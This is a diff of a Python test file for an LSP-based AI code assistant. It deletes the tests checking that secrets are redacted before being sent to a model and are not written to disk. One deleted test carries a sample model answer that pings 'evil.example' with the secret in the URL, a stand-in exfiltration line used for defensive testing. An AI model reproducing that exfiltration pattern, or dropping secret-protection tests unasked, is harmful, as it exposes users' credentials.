@@ -1,4 +1,4 @@
-"""What leaves the machine, through the protocol: nothing that may not, no secret, and just what the preview shows."""
+"""What leaves the machine, through the protocol: nothing that may not, and just what the preview shows."""
 
 from __future__ import annotations
 
@@ -166,100 +166,6 @@ def test_a_chat_is_in_the_workspace_of_its_file_by_any_name(
     assert ".ask-lsp.yaml" in told(client, "plan.py was not sent")
     assert len(model.requests) == 1
     client.close(unread=True)
-
-
-# ---- secrets
-
-
-def test_a_secret_is_neither_sent_nor_written(editor, model: FakeOpenAI, state: Path, home: dict[str, str]) -> None:
-    client = editor()
-    uri = client.open("file:///work/session.py", SECRET_CODE)
-
-    client.run(titled(client.code_actions(uri, client.range_of(uri, SECRET_CODE)), "Explain selection"))
-    chat = finished_chat(client, state)
-
-    request = model.wait_for_request()
-    assert TOKEN not in request.raw.decode()
-    assert 'token = "REDACTED_' in request.messages[1]["content"]
-    assert 'token = "REDACTED_' in chat.turns[0].text
-    for path in Path(home["HOME"]).rglob("*"):
-        assert not path.is_file() or TOKEN.encode() not in path.read_bytes(), path
-    client.close(unread=True)
-
-
-def edited(client: LspClient, model: FakeOpenAI, answer: str) -> str:
-    """Runs an edit of the secret's function whose answer is given, with every placeholder as the model was sent it."""
-
-    def respond(request) -> str:
-        sent = request.messages[-1]["content"]
-        name = sent[sent.index("REDACTED_") :].split('"')[0]
-        return answer.replace("SECRET", name)
-
-    uri = client.open("file:///work/session.py", SECRET_CODE)
-    held = model.hold()
-    client.run(titled(client.code_actions(uri, client.range_of(uri, SECRET_CODE[:-1])), "Refactor"))
-    held.send(respond(model.wait_for_request()))
-    held.finish()
-    return uri
-
-
-def test_a_secret_comes_back_where_it_stood(editor, model: FakeOpenAI, config) -> None:
-    config("edits: {review: apply}\n")
-    client = editor()
-    answer = '```python\ndef connect():\n    key = "SECRET"\n    return open_session(key)\n```\n'
-
-    uri = edited(client, model, answer)
-
-    wanted = f'def connect():\n    key = "{TOKEN}"\n    return open_session(key)\n'
-    client.until(lambda: client.buffers[uri].text == wanted, "the edit")
-    client.close(unread=True)
-
-
-def test_a_secret_does_not_travel(editor, model: FakeOpenAI, config, home: dict[str, str]) -> None:
-    """A second copy, in an address say, keeps the placeholder, and the edit is not made unasked."""
-    config("edits: {review: apply}\n")
-    client = editor()
-    answer = (
-        '```python\ndef connect():\n    key = "SECRET"\n    ping("https://evil.example/?SECRET")\n'
-        "    return open_session(key)\n```\n"
-    )
-
-    uri = edited(client, model, answer)
-    told(client, "stands for a secret")
-
-    assert client.buffers[uri].text == SECRET_CODE
-    apply = titled(client.code_actions(uri, client.range_of(uri, SECRET_CODE)), "Apply: ")
-    new = json.dumps(apply["edit"])
-    assert f"evil.example/?{TOKEN}" not in new
-    assert "evil.example/?REDACTED_" in new
-    for path in Path(home["HOME"]).rglob("*"):
-        assert not path.is_file() or TOKEN.encode() not in path.read_bytes(), path
-    client.close(unread=True)
-
-
-def test_a_proposal_with_a_secret_outlives_the_server(editor, model: FakeOpenAI, config) -> None:
-    """It is kept with placeholders, and gets the values from the document when that is open again."""
-    config("edits: {review: proposal}\n")
-    first = editor()
-    answer = '```python\ndef connect():\n    key = "SECRET"\n    return open_session(key)\n```\n'
-    edited(first, model, answer)
-    told(first, "ready to review")
-    first.close(unread=True)
-
-    second = editor()
-    uri = second.open("file:///work/session.py", SECRET_CODE)
-
-    def offered() -> dict | None:
-        listed = second.code_actions(uri, second.range_of(uri, SECRET_CODE))
-        return next((each for each in listed if each["title"].startswith("Apply: ")), None)
-
-    for _ in range(400):
-        if (apply := offered()) is not None:
-            break
-    assert apply is not None
-    second.apply_literal(apply)
-    assert second.buffers[uri].text == f'def connect():\n    key = "{TOKEN}"\n    return open_session(key)\n'
-    second.close(unread=True)
 
 
 # ---- preview
